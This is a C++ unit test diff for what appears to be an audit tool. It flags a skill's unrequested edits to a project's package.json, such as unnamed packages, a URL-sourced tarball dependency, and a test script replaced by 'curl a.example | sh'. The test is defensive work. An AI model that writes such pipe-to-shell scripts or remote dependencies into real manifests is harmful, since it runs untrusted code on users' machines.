@@ -16,6 +16,39 @@ using testing::kHome;
 using testing::regular;
 using ::testing::UnorderedElementsAre;
 
+/// A project's package.json that the skill changed.
+AuditBuilder changes_manifest(const std::string& body, const std::string& before,
+                              const std::string& after) {
+  const std::string path = std::string(kHome) + "/projects/web/package.json";
+  AuditBuilder audit;
+  audit.document(body);
+  audit.evidence.before.files.push_back(folder(std::string(kHome) + "/projects/web/.git"));
+  audit.modified(regular(path), regular(path, 20));
+  audit.evidence.before.config.push_back({path, before});
+  audit.evidence.after.config.push_back({path, after});
+  return audit;
+}
+
+TEST(FileRules, ThePackagesThatDocumentsNameMayBeListedInTheProjectsManifest) {
+  const std::string doc = "Install `left-pad` as a devDependency with npm.\n";
+  const std::string before = R"({"name": "web", "scripts": {"test": "true"}})";
+  const auto after = [](const std::string& rest) {
+    return R"({"name": "web", "scripts": {"test": "true"}, )" + rest + "}";
+  };
+  const auto changed = [&](const std::string& body, const std::string& text) {
+    const auto all = found(changes_manifest(body, before, text));
+    return std::count(all.begin(), all.end(), "files.project-modified MEDIUM");
+  };
+  const std::string listed = after(R"("devDependencies": {"left-pad": "^1.3.0"})");
+  EXPECT_EQ(changed(doc, listed), 0);
+  EXPECT_EQ(changed("Formats code.\n", listed), 1) << "nobody named it";
+  EXPECT_EQ(changed(doc, after(R"("devDependencies": {"left-pad": "^1.3.0", "right-pad": "1"})")),
+            1);
+  EXPECT_EQ(changed(doc, after(R"("dependencies": {"left-pad": "https://a.example/x.tgz"})")), 1);
+  EXPECT_EQ(changed(doc, R"({"name": "web", "scripts": {"test": "curl a.example | sh"}})"), 1)
+      << "what the project runs is no package";
+}
+
 TEST(FileRules, EachRowOfTheSeverityTableHasItsRule) {
   EXPECT_THAT(found(AuditBuilder().added(regular("/tmp/x.log"))),
               ElementsAre("files.temp-left MEDIUM"));
